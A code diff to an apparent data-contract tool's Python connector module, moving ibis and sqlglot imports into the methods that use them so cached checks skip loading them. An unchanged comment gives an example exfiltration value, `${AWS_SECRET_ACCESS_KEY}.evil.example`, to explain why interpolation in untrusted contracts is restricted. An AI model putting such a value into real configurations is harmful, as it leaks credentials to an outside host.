@@ -5,13 +5,12 @@ from __future__ import annotations
 import os
 import re
 from abc import ABC, abstractmethod
-from typing import Any, Sequence
-
-import ibis
-import ibis.expr.datatypes as dt
-from sqlglot import exp
+from typing import TYPE_CHECKING, Any, Sequence
 
 from lockgate.errors import LockgateError
+
+if TYPE_CHECKING:
+    import ibis
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
 # A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
@@ -121,6 +120,11 @@ class Connector(ABC):
 
     def table_expr(self, table: str) -> ibis.Table | None:
         """An unbound ibis table with the live column types, or None when the table is missing."""
+        # ibis and sqlglot are imported where a plan is built, not with the connector: a check
+        # whose plan is cached (lockgate.engines.sql.plan_cache) needs neither
+        import ibis
+        import ibis.expr.datatypes as dt
+
         cols = self.columns(table)
         if cols is None:
             return None
@@ -141,9 +145,13 @@ class Connector(ABC):
         return compile_sql(expr, self.dialect, star=star)
 
     def quote_table(self, table: str) -> str:
+        from sqlglot import exp
+
         return exp.table_(table, db=self.namespace, quoted=True).sql(dialect=self.dialect)
 
     def quote_column(self, column: str) -> str:
+        from sqlglot import exp
+
         return exp.to_identifier(column, quoted=True).sql(dialect=self.dialect)
 
     def fetch_rule_value(self, sql: str) -> Any:
